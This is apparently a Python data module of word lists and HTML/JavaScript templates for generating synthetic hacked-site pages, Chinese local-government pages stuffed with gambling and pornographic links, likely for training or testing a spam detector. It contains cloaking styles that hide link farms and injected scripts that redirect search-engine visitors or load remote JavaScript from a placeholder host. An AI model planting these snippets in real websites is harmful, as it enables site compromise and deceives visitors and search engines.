"""The words of which the labelled pages are made: lists of our own, not the lexicons of cleaning.

Written from what such links and sites are called, before the lexicons were looked at.
"""

# ruff: noqa: E501, Q000 (Chinese characters count for two columns; HTML within strings)

from __future__ import annotations

PLACES = ("云泽市", "石梁县", "柳塘区", "东岭市", "平溪县", "白沙区", "青垣县", "南湾市")
BUREAUS = ("人民政府", "教育局", "水务局", "审计局", "民政局", "人民政府办公室", "自然资源局")
TEMPLATES = (
    ("narrative", 2012),
    ("statistics", 2016),
    ("tables_2019", 2020),
    ("tables_2021", 2022),
)

BRANDS = (
    "365bet体育在线", "bet36体育官网", "澳门新葡京娱乐", "开云体育app下载", "kaiyun官方网站", "亚博体育官网",
    "必威体育平台", "万博体育app", "乐鱼体育官网", "华体会体育(中国)", "九游会官网", "金年会体育",
    "永利皇宫官网", "太阳城娱乐网站登录", "威尼斯人官网", "伟德国际1946", "betway必威体育", "manbetx官网",
    "188金宝搏", "bwin必赢", "雷火电竞官网", "pg电子官网", "星空体育app", "米兰体育官网", "球盟会官网",
    "尊龙凯时官网", "凯发k8官网", "龙8国际官网", "beplay体育下载", "新葡京官方网站", "皇冠体育平台",
    "爱游戏体育官网", "半岛体育app", "欧宝体育平台", "三亿体育官网", "mg电子游戏平台", "申博太阳城",
    "澳门银河娱乐平台", "足球投注平台", "买球app官网",
)  # fmt: skip
DOMAINS = (
    "www.bet5588.com",
    "www.xpj990.com",
    "hg0088.cc",
    "www.vns7719.com",
    "www.667733.com",
    "js55881.com",
)
ANCHORS = (
    "国产精品久久久", "亚洲一区二区三区", "日本高清无码", "成人免费视频", "欧美人妻精品", "免费黄色网站",
    "久久综合久久爱", "中文字幕在线看", "樱花视频入口", "麻豆传媒在线观看", "色综合天天", "一级毛片免费看",
    "丝袜美腿在线", "草莓视频下载", "国产三级片", "精品人妻无码一区", "在线观看免费黄", "女同久久",
)  # fmt: skip
BETS = (
    "澳门百家乐网址", "真人棋牌游戏平台", "北京赛车pk10投注", "时时彩平台", "六合彩开奖结果", "老虎机游戏下载",
    "网上赌场开户", "足球投注网站", "注册送彩金38", "捕鱼游戏平台", "快三走势图", "皇冠比分网",
    "体育投注官网", "彩票平台注册", "电子游艺平台", "线上娱乐城",
)  # fmt: skip
COUNTIES = (
    "靖边县",
    "汝南县",
    "南漳县",
    "万安县",
    "安义县",
    "开阳县",
    "平陆县",
    "永吉县",
    "岳西县",
)
SYLLABLES = {
    "政": "zhèng", "府": "fǔ", "信": "xìn", "息": "xī", "公": "gōng", "开": "kāi", "工": "gōng", "作": "zuò",
    "年": "nián", "度": "dù", "报": "bào", "告": "gào", "主": "zhǔ", "动": "dòng", "申": "shēn", "请": "qǐng",
    "条": "tiáo", "例": "lì", "关": "guān", "于": "yú", "网": "wǎng", "站": "zhàn", "人": "rén", "民": "mín",
    "办": "bàn", "理": "lǐ", "收": "shōu", "数": "shù", "量": "liàng", "总": "zǒng", "计": "jì", "部": "bù",
    "门": "mén", "国": "guó", "家": "jiā", "统": "tǒng", "及": "jí", "时": "shí", "新": "xīn", "发": "fā",
    "务": "wù", "学": "xué", "会": "huì", "议": "yì", "培": "péi", "训": "xùn", "绿": "lǜ", "内": "nèi",
}  # fmt: skip

FARM_FORMS = ("signed", "counties", "bars", "underscores", "blanks", "links", "items", "wild")
HIDING = (
    '<div style="display:none">{}</div>', '<div style="visibility: hidden">{}</div>',
    '<div style="position:absolute;left:-9999px">{}</div>', '<div style="text-indent:-9999px">{}</div>',
    '<div style="font-size:0px">{}</div>', '<div style="opacity:0;">{}</div>',
    '<div style="overflow:hidden;height:0">{}</div>', '<div style="width:1px;overflow:hidden;height:1px;">{}</div>',
    '<div style="color:#fff;background:#FFFFFF">{}</div>', '<div hidden>{}</div>',
    '<noscript>{}</noscript>', '<marquee height=1 width=1>{}</marquee>',
    '<div class="sx9">{}</div>', '<div id="yy7">{}</div>', '<div style="clip:rect(0 0 0 0);position:absolute">{}</div>',
    "<script>document.write(\"<div style='display:none'>\")</script><div>{}</div><script>document.write('</div>')</script>",
)  # fmt: skip
SHEET = "<style>.sx9{display:none} #yy7 { text-indent : -5000px; }</style>"
SCRIPTS = (
    'if(document.referrer.indexOf("baidu")>-1||document.referrer.indexOf("sogou")>-1){{location.href="http://{host}/"}}',
    'var r=document.referrer;if(/google|bing|sm\\.cn/.test(r)){{window.top.location="//{host}"}}',
    'document.write(unescape("%3Cscript src=%27http://{host}/a.js%27%3E%3C/script%3E"));',
    "document.writeln('<script src=\"//{host}/x.js\"><\\/script>');",
    '(function(){{var s=document.createElement("script");s.src="https://{host}/c.js";document.body.appendChild(s)}})();',
    'eval(function(p,a,c,k,e,d){{e=String;return p}}("0.1(2)",3,3,"document|write|{host}".split("|"),0,{{}}));',
    'var u=navigator.userAgent.toLowerCase();if(u.indexOf("baiduspider")<0){{document.title="首页"}}',
)  # fmt: skip
